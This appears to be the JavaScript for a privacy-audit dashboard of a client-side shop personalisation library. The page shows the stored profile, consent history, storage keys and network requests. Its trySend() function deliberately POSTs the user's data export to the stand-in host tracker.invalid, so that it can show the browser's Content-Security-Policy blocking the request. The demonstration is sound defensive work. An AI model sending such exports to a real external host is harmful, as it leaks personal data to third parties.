// The privacy reviewer's page: vitrine's audit() and exportData(), live, with charts of the
// profile drawn here. It opens vitrine like the shop does (same namespace and policy), so it sees
// the same stored profile and follows the shop's tabs through the browser's storage event.
import { CMP_KEY, SHOP_POLICY, Vitrine, loadVitrine, showFatal } from './lib/site.js';
import { ago, bytes, el, plural, when } from './lib/dom.js';
import { bars, timeChart } from './lib/charts.js';
import { generateCatalog } from './catalog.js';

const DAY = 86_400_000;
const $ = (id) => document.getElementById(id);
const byId = new Map(generateCatalog().map((i) => [i.id, i]));
let v;
let by = 'category';
/** The last report drawn, to redraw the time chart when its panel changes width. */
let drawn = null;

const KEY_MEANING = {
  profile: 'The profile: decaying weights of items, categories, brands, channels and price bands; recent views, purchases, cart, searches; when it began and the last erasures known, so no tab brings back a copy from before one. Binary, checksummed.',
  consent: 'The consent decision: personalization, storage, sensitive, which signal decided and when, and when the profile and the sensitive signals were last erased. 29 bytes (48 characters stored).',
};

/** localStorage keys that are not vitrine's, with what they are; erase() does not remove them. */
const FOREIGN_MEANING = {
  [CMP_KEY]: { what: 'the consent tool\'s own record', more: 'The demo IAB TCF CMP keeps your choice here, as a TC string, and hands it to vitrine on each visit.' },
};
const UNKNOWN_KEY = { what: 'another script on this site stored it', more: '' };

/** localStorage keys outside vitrine's namespace, sized as vitrine sizes its own (UTF-16: two bytes a character). */
function foreignKeys(namespace) {
  return Object.keys(localStorage).filter((k) => !k.startsWith(`${namespace}:`)).sort()
    .map((key) => ({ key, bytes: 2 * (key.length + (localStorage.getItem(key) ?? '').length) }));
}

function tile(label, value, detail, tone) {
  return el('div', { class: `tile ${tone || ''}` },
    el('span', { class: 'tile-label', text: label }),
    el('span', { class: 'tile-value', text: value }),
    detail ? el('span', { class: 'tile-detail', text: detail }) : null);
}

function summary(a) {
  const c = a.consent;
  $('summary').replaceChildren(
    tile('Mode', a.mode, `vitrine ${a.version}`),
    tile('Network', a.network.capable ? 'can send' : 'cannot send', 'no network API is imported', a.network.capable ? 'bad' : 'ok'),
    tile('Personalisation', c.personalization ? 'granted' : 'denied', `source: ${c.source}${c.updatedAt ? `, ${ago(c.updatedAt)}` : ''}`, c.personalization ? 'ok' : ''),
    tile('Storage', c.storage ? 'granted' : 'denied', `${a.storage.keys.length} key${a.storage.keys.length === 1 ? '' : 's'}, ${bytes(a.storage.totalBytes)} in ${a.storage.backend}Storage`.replace('memoryStorage', 'memory'), c.storage ? 'ok' : ''),
    tile('Retention', `${a.policy.retentionDays} days`, `half-life ${a.policy.halfLifeDays} days${a.profile.oldest ? `; oldest signal ${ago(a.profile.oldest)}` : ''}`),
    tile('Global Privacy Control', a.gpc ? 'sent' : 'not sent', `policy: ${a.policy.gpc}`),
  );
}

/**
 * profile().counts' keys in words, what the shopper did first and the shop's pages last: a
 * storefront tracks a page view on every screen, so they outnumber the rest, and keep nothing.
 */
const COUNT_WORDS = [
  ['view', 'product view'], ['click', 'click'], ['list_view', 'list view'], ['search', 'search', 'searches'],
  ['add', 'add to cart', 'adds to cart'], ['remove', 'removal from the cart', 'removals from the cart'],
  ['cart_view', 'cart view'], ['checkout', 'checkout'], ['purchase', 'purchase'],
  ['wishlist', 'wishlist add'], ['survey', 'survey answer'], ['page_view', 'page view'],
];

function countsInWords(counts) {
  const known = new Set(COUNT_WORDS.map(([k]) => k));
  return [...COUNT_WORDS.filter(([k]) => counts[k]).map(([k, word, many]) => plural(counts[k], word, many)),
    // A kind this page does not know yet (a newer vitrine) is shown as vitrine names it.
    ...Object.entries(counts).filter(([k, n]) => n && !known.has(k)).map(([k, n]) => plural(n, k))].join(', ');
}

function profilePanel(exp, a) {
  const p = exp.profile;
  if (!p) {
    $('profile').replaceChildren(el('p', { class: 'empty', text: a.consent.personalization
      ? 'Personalisation is on, but nothing was recorded yet.'
      : 'No profile: without personalisation consent vitrine holds nothing about you, not even in memory.' }));
    return;
  }
  const top = (list) => list.slice(0, 8).map((x) => ({ name: x.name, value: x.share, label: `${Math.round(x.share * 100)} %` }));
  const counts = countsInWords(p.counts);
  const band = [...p.priceBands].sort((x, y) => y.weight - x.weight)[0];
  $('profile').replaceChildren(el('div', { class: 'glance' },
    el('figure', {}, el('figcaption', { text: 'Categories' }), bars(top(p.categories), { title: 'Category affinities (share of the profile)', max: 1 })),
    el('figure', {}, el('figcaption', { text: 'Brands' }), bars(top(p.brands), { title: 'Brand affinities (share of the profile)', max: 1 })),
    el('dl', { class: 'facts' },
      el('dt', { text: 'Events recorded' }), el('dd', { text: counts || 'none' }),
      el('dt', { text: 'Arrived from' }), el('dd', {}, p.channels.length
        ? p.channels.map((ch) => el('span', { class: 'chip', text: `${ch.name} ${Math.round(ch.share * 100)} %` }))
        : 'no channel recorded'),
      el('dt', { text: 'Usual price range' }), el('dd', { text: band ? `€${band.min}–${band.max}` : '—' }),
      el('dt', { text: 'Recently viewed' }), el('dd', { text: plural(p.recentlyViewed.length, 'product') }),
      el('dt', { text: 'Purchases' }), el('dd', { text: plural(p.purchases.length, 'product') }),
      el('dt', { text: 'In the cart' }), el('dd', { text: plural(p.cart.length, 'product') }),
      el('dt', { text: 'Searches' }), el('dd', {}, p.searches.length ? p.searches.map((s) => el('span', { class: 'chip', text: s.value ?? s.query ?? String(s) })) : 'none'),
      el('dt', { text: 'First and last signal' }), el('dd', { text: p.firstSeen == null ? 'none yet' : `${when(p.firstSeen)} — ${when(p.lastSeen)}` }))));
}

/**
 * Past: every item signal the profile holds, at the time it was last updated, with the weight it
 * had then (its weight now, un-decayed). Future: how each affinity fades with no new activity
 * (weight · 0.5^(t / half-life)), up to the retention horizon. Both are exact consequences of what
 * exportData() returns and the policy; nothing is estimated.
 */
function timePanel(exp, a) {
  const p = exp.profile;
  if (!p) {
    $('time').replaceChildren(el('p', { class: 'empty', text: 'Nothing to chart: no profile is held.' }));
    return;
  }
  const now = exp.exportedAt;
  const H = a.policy.halfLifeDays * DAY;
  const R = a.policy.retentionDays * DAY;
  const groups = by === 'category' ? p.categories : p.brands;
  const top = groups.slice(0, 6);
  const names = new Set(top.map((g) => g.name));
  const steps = 48;
  const series = top.map((g) => ({
    name: g.name,
    points: Array.from({ length: steps + 1 }, (_, i) => {
      const t = now + (R * i) / steps;
      return [t, g.weight * 0.5 ** ((t - now) / H)];
    }),
  }));
  const groupOf = (id) => {
    const item = byId.get(id);
    return item ? (by === 'category' ? item.category : item.brand).toLowerCase() : undefined;
  };
  const dots = p.items.map((it) => {
    const g = groupOf(it.itemId);
    return {
      t: it.updatedAt,
      y: it.weight * 2 ** ((now - it.updatedAt) / H),
      series: names.has(g) ? g : undefined,
      title: `${byId.get(it.itemId)?.title ?? it.itemId}: ${it.views} view(s), ${it.adds} add(s); last ${when(it.updatedAt)}`,
    };
  });
  const from = Math.min(p.firstSeen, now - 2 * DAY) - DAY / 4;
  const to = now + R;
  const deleteBy = p.lastSeen + R;
  $('time').replaceChildren(
    timeChart({
      width: chartWidth(),
      title: `${by === 'category' ? 'Category' : 'Brand'} affinities: item signals so far, and how each affinity fades until retention deletes it`,
      from, to, series, dots,
      markers: [
        { t: now, label: 'now', class: 'now' },
        ...(deleteBy <= to ? [{ t: deleteBy, label: 'all deleted by', align: 'end' }] : []),
      ],
    }),
    el('ul', { class: 'legend' },
      top.map((g, i) => el('li', {}, el('span', { class: `swatch c${i % 8}` }), `${g.name} (${g.weight.toFixed(1)})`)),
      el('li', {}, el('span', { class: 'swatch dotlike' }), 'dots: one per product signal, when last recorded')),
    el('p', { class: 'note', text: `Left of “now”: each product the profile holds, placed when it was last updated, at the weight it had then. `
      + `Right of “now”: with no new activity every weight halves each ${a.policy.halfLifeDays} days, and signals older than ${a.policy.retentionDays} days `
      + 'are deleted the next time vitrine opens — so the whole profile is gone at the latest on the first visit after the dashed line.' }));
}

/** A duration in ms in the largest whole unit that fits: '3 days', '5 h', '2 min', '40 s'. */
function span(ms) {
  const units = [[86_400_000, ' days'], [3_600_000, ' h'], [60_000, ' min'], [1000, ' s']];
  const [size, name] = units.find(([size]) => ms >= size) || units[units.length - 1];
  return `${Math.round(ms / size)}${name}`;
}

/** vitrine's three purposes (PRIVACY.md), as the Consent panel and its history name them. */
const PURPOSES = [
  ['personalization', 'personalization', 'Personalisation'],
  ['storage', 'storage', 'Storage'],
  ['sensitive', 'sensitive categories', 'Sensitive categories'],
];

const HISTORY_TEXT = {
  consent: (e) => `${PURPOSES.map(([key, word]) => `${word} ${e[key] ? 'granted' : 'denied'}`).join(', ')} (source: ${e.source})`,
  erase: (e) => ({
    profile: 'profile erased (personalisation withdrawn)',
    storage: 'stored records erased (storage withdrawn)',
    sensitive: 'sensitive signals erased (sensitive categories withdrawn)',
  })[e.what] || 'everything erased',
  reset: (e) => `damaged record ${e.key} reset: ${e.reason}`,
  prune: (e) => `${e.signals} signal(s) older than retention deleted`,
  clock: (e) => `times up to ${span(e.ahead)} ahead of the device's clock brought back to now (the clock was put back)`,
  storageError: (e) => e.message || e.reason || 'storage refused a write',
  ignored: (e) => `${e.signal || e.source || 'signal'} ignored: ${e.reason || ''}`,
  sync: (e) => `another tab's change taken over${e.what ? ` (${e.what})` : ''}`,
  cleared: () => 'vitrine\'s records vanished from storage (the site\'s data was cleared): handled as an erasure',
};

function describeEvent(e) {
  const f = HISTORY_TEXT[e.type];
  if (f) return f(e);
  const { type, at, ...rest } = e;
  return JSON.stringify(rest);
}

/** When a stored decision stops standing (policy.consentMaxAgeDays), as the shopper would read it. */
function askedAgain(a) {
  const days = a.policy.consentMaxAgeDays;
  const after = `after ${days} days`;
  const c = a.consent;
  if (!c.updatedAt || !['explicit', 'stored'].includes(c.source)) return `a decision your banner gives stands ${days} days`;
  return `${after}, on ${new Date(c.updatedAt + days * DAY).toLocaleDateString('en-GB', { day: 'numeric', month: 'long', year: 'numeric' })}`;
}

/** What "no decision" means here: none made yet, or a refusal the policy does not keep. */
function noDecision(a) {
  return a.policy.rememberRefusal
    ? 'no decision yet'
    : 'none held: no decision yet, or a refusal, which this shop does not keep (policy.rememberRefusal is off): the banner asks at the next visit';
}

function consentPanel(a) {
  const c = a.consent;
  const yes = (b) => el('span', { class: `pill ${b ? 'ok' : 'bad'}`, text: b ? 'granted' : 'denied' });
  $('consent').replaceChildren(
    el('table', { class: 'state' },
      el('tbody', {},
        PURPOSES.map(([key, , name]) => el('tr', {}, el('th', { scope: 'row', text: name }), el('td', {}, yes(c[key])))),
        el('tr', {}, el('th', { scope: 'row', text: 'Decided by' }), el('td', { text: c.source })),
        el('tr', {}, el('th', { scope: 'row', text: 'When' }), el('td', { text: c.updatedAt ? when(c.updatedAt) : noDecision(a) })),
        el('tr', {}, el('th', { scope: 'row', text: 'Asked again' }), el('td', { text: askedAgain(a) })))),
    el('h3', { text: 'History (this page)' }),
    a.history.length
      ? el('ol', { class: 'history' }, [...a.history].reverse().map((e) => el('li', { 'data-type': e.type },
        el('time', { datetime: new Date(e.at).toISOString(), text: new Date(e.at).toLocaleTimeString('en-GB') }),
        el('span', { class: 'pill', text: e.type }),
        el('span', { text: describeEvent(e) }))))
      : el('p', { class: 'empty', text: 'Nothing happened on this page yet.' }));
}

/** A storage key as code that a narrow table may wrap after its colons, not inside its words. */
const keyCode = (key) => el('code', {}, key.split(/(?<=:)/).flatMap((part, i) => (i ? [el('wbr'), part] : [part])));

function storagePanel(a) {
  const rows = a.storage.keys.map((k) => {
    const kind = k.key.split(':').pop();
    const raw = a.storage.backend === 'local' ? localStorage.getItem(k.key) : null;
    return el('tr', { 'data-key': k.key },
      el('td', {}, keyCode(k.key)),
      el('td', { class: 'num', text: bytes(k.bytes) }),
      el('td', {}, KEY_MEANING[kind] || 'vitrine record',
        raw ? el('code', { class: 'raw', title: 'as stored', text: raw.length > 44 ? `${raw.slice(0, 44)}…` : raw }) : null));
  });
  // The rest of this origin's localStorage: listed so the page shows all the browser keeps, and
  // marked as not vitrine's — a consent tool keeps its own decision, and erase() leaves it.
  const others = foreignKeys(a.storage.namespace).map((k) => {
    const { what, more } = FOREIGN_MEANING[k.key] ?? UNKNOWN_KEY;
    return el('tr', { 'data-key': k.key, class: 'foreign' },
      el('td', {}, keyCode(k.key)),
      el('td', { class: 'num', text: bytes(k.bytes) }),
      el('td', {}, el('b', { text: 'Not vitrine\'s' }), ` (${what}); erase() does not remove it.`, more ? ` ${more}` : null));
  });
  const left = Object.keys(localStorage).filter((k) => k.startsWith(`${a.storage.namespace}:`));
  $('storage').replaceChildren(
    el('table', { class: 'keys' },
      el('thead', {}, el('tr', {}, el('th', { text: 'Key' }), el('th', { class: 'num', text: 'Size' }), el('th', { text: 'What it holds' }))),
      el('tbody', {},
        rows.length ? rows : el('tr', {}, el('td', { colspan: '3', class: 'empty', text: 'vitrine has nothing in storage.' })),
        others)),
    el('p', { class: 'note', text: `Read from ${a.storage.backend === 'local' ? 'localStorage' : 'memory'} just now: ${plural(left.length, 'key')} start${left.length === 1 ? 's' : ''} with “${a.storage.namespace}:”, `
      + `${bytes(a.storage.totalBytes)} in all (as browsers count quota). vitrine uses no cookies, no IndexedDB, no sessionStorage.`
      + (others.length ? ` ${plural(others.length, 'other key')} in this site's localStorage ${others.length === 1 ? 'is' : 'are'} not vitrine's.` : '') }));
  $('erase-cmp').hidden = localStorage.getItem(CMP_KEY) === null;
}

function networkPanel(a) {
  const entries = [performance.getEntriesByType('navigation')[0], ...performance.getEntriesByType('resource')].filter(Boolean);
  const list = entries.map((e) => {
    const u = new URL(e.name);
    return el('li', {}, el('code', { text: u.origin === location.origin ? u.pathname + u.search : e.name }), el('span', { class: 'kind', text: e.initiatorType || 'navigation' }));
  });
  const sameOrigin = entries.every((e) => new URL(e.name).origin === location.origin);
  $('network').replaceChildren(
    el('div', { class: 'net' },
      el('div', {},
        el('h3', { text: 'What the module can reach' }),
        el('p', { class: 'verdict' }, el('span', { class: `pill ${a.network.capable ? 'bad' : 'ok'}`, text: a.network.capable ? 'network capable' : 'no network capability' })),
        el('p', { text: a.network.imports }),
        el('p', { class: 'note', text: `Proof: ${a.network.proof}.` }),
        el('h3', { text: 'Try it' }),
        el('p', { text: 'This button asks the page to send your export to a tracker. The page\'s Content-Security-Policy allows connections only to vitrine\'s .wasm file and the shop\'s model file, so the browser refuses.' }),
        el('button', { type: 'button', id: 'try-send', text: 'Try to send my data to tracker.invalid' }),
        el('div', { id: 'try-result', role: 'status' }, tried ? tryResult(tried) : null)),
      el('div', {},
        el('h3', { text: `Every request this page made (${entries.length})` }),
        el('p', { class: 'verdict' }, el('span', { class: `pill ${sameOrigin ? 'ok' : 'bad'}`, text: sameOrigin ? 'all same-origin static files' : 'a request left this origin' })),
        el('ol', { class: 'requests' }, list))));
  $('try-send').addEventListener('click', trySend);
}

/**
 * The last send attempt's outcome. The page is drawn again whenever the shop's tab writes (a page
 * view and the screen's own event are two writes), so the result is kept here and drawn with the
 * rest, not only into the element that was on screen when the button was pressed.
 */
let tried = null;

function tryResult({ outcome, violation }) {
  return [
    el('p', {}, el('span', { class: `pill ${violation ? 'ok' : 'bad'}`, text: violation ? 'blocked by the browser' : 'not blocked' }), ` ${outcome}.`),
    violation ? el('p', {}, `Violated directive: `, el('code', { text: violation.effectiveDirective }), `; blocked: `, el('code', { text: violation.blockedURI })) : null,
    violation ? el('details', {}, el('summary', { text: 'This page\'s Content-Security-Policy' }), el('pre', { text: violation.originalPolicy.split('; ').join(';\n') })) : null,
  ];
}

/** Attempts a real exfiltration and shows what the browser's CSP did with it. */
async function trySend() {
  let violation = null;
  const onViolation = (e) => { violation = e; };
  document.addEventListener('securitypolicyviolation', onViolation);
  let outcome;
  try {
    await fetch('https://tracker.invalid/collect', { method: 'POST', body: JSON.stringify(v.exportData()), mode: 'no-cors' });
    outcome = 'the request went out';
  } catch (e) {
    outcome = `fetch failed: ${e.message}`;
  }
  await new Promise((r) => setTimeout(r, 50));
  document.removeEventListener('securitypolicyviolation', onViolation);
  tried = {
    outcome,
    violation: violation && { effectiveDirective: violation.effectiveDirective, blockedURI: violation.blockedURI, originalPolicy: violation.originalPolicy },
  };
  $('try-result').replaceChildren(...tryResult(tried).filter(Boolean));
}

/**
 * The time chart is drawn at the width it is shown at (up to the 760 units it was designed for),
 * so that on a phone it is a tall chart with labels at their CSS size, not the desktop drawing
 * shrunk to 40 % (its labels 5 px tall).
 */
const chartWidth = () => Math.round(Math.min(760, Math.max(300, $('time').clientWidth || 760)));

function render() {
  const a = v.audit();
  const exp = v.exportData();
  drawn = { exp, a, width: chartWidth() };
  summary(a);
  profilePanel(exp, a);
  timePanel(exp, a);
  consentPanel(a);
  storagePanel(a);
  networkPanel(a);
  $('export').textContent = JSON.stringify(exp, null, 2);
  $('live').dataset.at = String(Date.now());
}

try {
  await loadVitrine();
  // No catalog is needed to read the profile; the policy must match the shop's (retention).
  v = Vitrine.open({ policy: SHOP_POLICY });
  window.vitrine = v;

  $('erase').addEventListener('click', () => {
    v.erase();
    render();
    const left = Object.keys(localStorage).filter((k) => k.startsWith('vitrine:'));
    // erase() is vitrine's; a consent tool's record is the consent tool's, and it keeps deciding.
    const cmp = localStorage.getItem(CMP_KEY) !== null
      ? ` The consent tool's own record (${CMP_KEY}) is not vitrine's and stays: the demo CMP keeps your decision and `
        + 'hands it to vitrine again on your next visit to the shop\'s TCF page — clear it below, or change it in the CMP.'
      : '';
    $('status').textContent = `Erased at ${new Date().toLocaleTimeString('en-GB')}. vitrine keys left in localStorage: ${left.length}.${cmp}`;
  });
  $('erase-cmp').addEventListener('click', () => {
    localStorage.removeItem(CMP_KEY);
    render();
    $('status').textContent = `The demo consent tool's record (${CMP_KEY}) was removed at ${new Date().toLocaleTimeString('en-GB')}: `
      + 'the shop\'s TCF page will ask for your consent again.';
  });
  $('download').addEventListener('click', () => {
    const url = URL.createObjectURL(new Blob([JSON.stringify(v.exportData(), null, 2) + '\n'], { type: 'application/json' }));
    const a = el('a', { href: url, download: 'vitrine-export.json' });
    document.body.append(a);
    a.click();
    a.remove();
    setTimeout(() => URL.revokeObjectURL(url), 1000);
  });
  document.querySelector('.segmented').addEventListener('click', (e) => {
    const b = e.target.closest('[data-by]');
    if (!b) return;
    by = b.dataset.by;
    document.querySelectorAll('[data-by]').forEach((x) => x.setAttribute('aria-pressed', String(x === b)));
    render();
  });
  // The shop in another tab writes; vitrine here merges it on the storage event, then we redraw.
  window.addEventListener('storage', () => setTimeout(render, 0));
  new ResizeObserver(() => {
    if (!drawn || Math.abs(chartWidth() - drawn.width) < 8) return;
    drawn.width = chartWidth();
    timePanel(drawn.exp, drawn.a);
  }).observe($('time'));
  render();
  document.body.dataset.ready = 'true';
} catch (error) {
  console.error(error);
  showFatal('main', error);
}
